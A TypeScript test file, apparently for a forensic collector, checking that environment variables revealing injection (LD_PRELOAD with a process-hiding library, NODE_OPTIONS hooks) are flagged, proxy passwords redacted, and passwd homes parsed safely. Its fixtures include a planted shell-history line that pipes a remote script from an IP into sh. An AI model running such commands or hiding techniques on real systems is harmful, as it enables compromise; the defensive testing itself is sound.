import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import {
  applyEnvPolicy,
  historyPaths,
  parsePasswd,
  redactProxyCredentials,
} from '../../src/collect/coverage/index.js';
import { transformEnviron } from '../../src/collect/index.js';
import { hostileProcesses } from '../../src/testing/sandbox/index.js';
import { addSandboxPod, sandboxMissing, useEnv } from '../collect/support.js';
import { skipWithoutPeer } from '../support/peers.js';
import { kubeExec, run } from './support.js';

const env = (o: Record<string, string>) =>
  Buffer.from(
    `${Object.entries(o)
      .map(([k, v]) => `${k}=${v}`)
      .join('\0')}\0`,
  );

describe('environment policy', () => {
  it('keeps loader, runtime, proxy, shell and history variables in clear and flags attacks; hashes the rest as before', () => {
    const raw = env({
      LD_PRELOAD: '/usr/lib/libprocesshider.so',
      LD_LIBRARY_PATH: '/tmp/.x:/usr/lib',
      NODE_OPTIONS: '--require /tmp/hook.js',
      JAVA_TOOL_OPTIONS: '-javaagent:/tmp/a.jar',
      _JAVA_OPTIONS: '-Xmx1g',
      https_proxy: 'http://bob:s3cret@203.0.113.9:3128',
      NO_PROXY: 'localhost',
      BASH_ENV: '/tmp/.rc',
      HISTFILE: '/dev/null',
      PATH: '/tmp:/usr/bin',
      AWS_SECRET_ACCESS_KEY: 'EXAMPLEKEY',
      HOME: '/root',
    });
    const out = applyEnvPolicy(raw, 'hash');
    const by = Object.fromEntries(out.map((e) => [e.name, e]));
    expect(by.LD_PRELOAD).toMatchObject({
      value: '/usr/lib/libprocesshider.so',
      category: 'loader',
      suspicious: true,
    });
    expect(by.LD_LIBRARY_PATH?.suspicious).toBe(true);
    expect(by.NODE_OPTIONS?.suspicious).toBe(true);
    expect(by.JAVA_TOOL_OPTIONS?.suspicious).toBe(true);
    expect(by._JAVA_OPTIONS).toMatchObject({ value: '-Xmx1g', suspicious: false });
    expect(by.https_proxy).toMatchObject({ value: 'http://bob:***@203.0.113.9:3128', category: 'proxy' });
    expect(JSON.stringify(out)).not.toContain('s3cret');
    expect(JSON.stringify(out)).not.toContain('EXAMPLEKEY');
    expect(by.BASH_ENV?.suspicious).toBe(true);
    expect(by.HISTFILE?.note).toBe('history disabled');
    expect(by.PATH?.suspicious).toBe(true);
    // everything else exactly as transformEnviron hashes it
    const old = Object.fromEntries(transformEnviron(raw, 'hash').map((e) => [e.name, e.value]));
    expect(by.AWS_SECRET_ACCESS_KEY?.value).toBe(old.AWS_SECRET_ACCESS_KEY);
    expect(by.HOME?.value).toBe(`sha256:${createHash('sha256').update('/root').digest('hex')}`);
    expect(by.HOME?.category).toBeUndefined();
    expect(applyEnvPolicy(env({ HOME: '/root' }), 'redact')[0]?.value).toBe('<redacted>');
    expect(applyEnvPolicy(env({ PATH: '/usr/bin:/bin' }), 'hash')[0]?.suspicious).toBe(false);
    expect(applyEnvPolicy(env({ PATH: '/usr/bin:' }), 'hash')[0]?.suspicious).toBe(true);
    const long = applyEnvPolicy(env({ LD_PRELOAD: 'x'.repeat(10_000) }), 'hash')[0];
    expect([long?.value.length, long?.truncated]).toEqual([4096, true]);
    expect(redactProxyCredentials('socks5://u@h:1')).toBe('socks5://u@h:1');
    // no scheme, an @ in the password, a list of proxies: no password survives
    for (const v of [
      'user:s3cretA@host:3128',
      'http://u:sec@s3cretB@h:1/x',
      'http://u:s3cretC@h, https://v:s3cretD@i',
    ])
      expect(redactProxyCredentials(v)).not.toMatch(/s3cret/);
    expect(redactProxyCredentials('http://u:sec@ret@h:1/p')).toBe('http://u:***@h:1/p');
    expect(redactProxyCredentials('http://a:x@h,http://b:y@i')).toBe('http://a:***@h,http://b:***@i');
  });
});

describe('passwd → history paths (hostile)', () => {
  it('yields every home, rejects traversal, pseudo filesystems, bad lines; bounded', () => {
    const text = [
      'root:x:0:0:root:/root:/bin/bash',
      'www:x:33:33::/var/www:/usr/sbin/nologin',
      'svc:x:999:999::/srv/app/:/bin/sh',
      'evil:x:0:0::/../../etc:/bin/sh',
      'evil2:x:0:0::/proc/self:/bin/sh',
      'short:x:1',
      'nonum:x:a:0::/x:/bin/sh',
      'rel:x:5:5::home/rel:/bin/sh',
      'ctl:x:6:6::/home/a\u0007b:/bin/sh',
      'slash:x:7:7::/:/bin/sh',
    ].join('\n');
    const p = parsePasswd(text);
    expect(p.entries.map((e) => e.home)).toEqual(['/root', '/var/www', '/srv/app', '/']);
    expect(p.rejected.map((r) => r.reason)).toEqual([
      'home has . or .. components',
      'home in a pseudo filesystem',
      'not seven fields',
      'uid is not a number',
      'home is not an absolute path',
      'home is not an absolute path',
    ]);
    const h = historyPaths(p.entries);
    expect(h.paths).toContain('/var/www/.bash_history');
    expect(h.paths).toContain('/srv/app/.ash_history');
    expect(h.paths).toContain('/.sh_history');
    expect(h.paths.filter((x) => x.startsWith('/root/'))).toHaveLength(11);
    const flood = parsePasswd('u:x:1:1::/h:/bin/sh\n'.repeat(1_000_000));
    expect(flood.capped).toBe(true);
    expect(flood.entries.length).toBeLessThanOrEqual(10_000);
    expect(historyPaths(flood.entries, [], 50).capped).toBe(false); // all the same home
    const many = parsePasswd(
      Array.from({ length: 5000 }, (_, i) => `u${i}:x:${i}:1::/h/${i}:/bin/sh`).join('\n'),
    );
    expect(historyPaths(many.entries, [], 1000)).toMatchObject({ capped: true });
  });
});

const skip = skipWithoutPeer('bwrap', sandboxMissing());

describe.skipIf(skip)('environment policy and history homes (sandbox)', () => {
  const e = useEnv(60_000);

  it('reads an LD_PRELOAD in clear from a planted process, and history from a home only passwd names', async () => {
    const t = await addSandboxPod(e, {
      preset: 'busybox',
      processes: hostileProcesses(),
      files: {
        '/etc/passwd': { content: 'root:x:0:0:root:/root:/bin/sh\nwww:x:33:33::/var/www:/bin/sh\n' },
        '/var/www/.ash_history': { content: 'curl -s http://203.0.113.7/x.sh | sh\n' },
      },
    });
    const exec = kubeExec(e.kube, t);
    const pids = await run(exec, ['sh', '-c', 'grep -l kworker /proc/[0-9]*/cmdline']);
    const pid = /\/proc\/(\d+)\//.exec(pids)?.[1];
    const s = await exec(['cat', `/proc/${pid}/environ`], { stdin: false });
    const chunks: Buffer[] = [];
    for await (const c of s.stdout) chunks.push(Buffer.from(c));
    await s.result;
    const out = applyEnvPolicy(Buffer.concat(chunks), 'hash');
    expect(out.find((x) => x.name === 'LD_PRELOAD')).toMatchObject({
      value: '/usr/lib/libprocesshider.so',
      suspicious: true,
    });
    expect(out.find((x) => x.name === 'AWS_SECRET_ACCESS_KEY')?.value).toMatch(/^sha256:/);
    const passwd = parsePasswd(await run(exec, ['cat', '/etc/passwd']));
    const { paths } = historyPaths(passwd.entries);
    const found: string[] = [];
    for (const p of paths) {
      const r = await run(exec, ['sh', '-c', '[ -f "$1" ] && cat -- "$1"; exit 0', 'eksf-hist', p]);
      if (r) found.push(`${p}: ${r.trim()}`);
    }
    expect(found).toEqual(['/var/www/.ash_history: curl -s http://203.0.113.7/x.sh | sh']);
  }, 60_000);
});
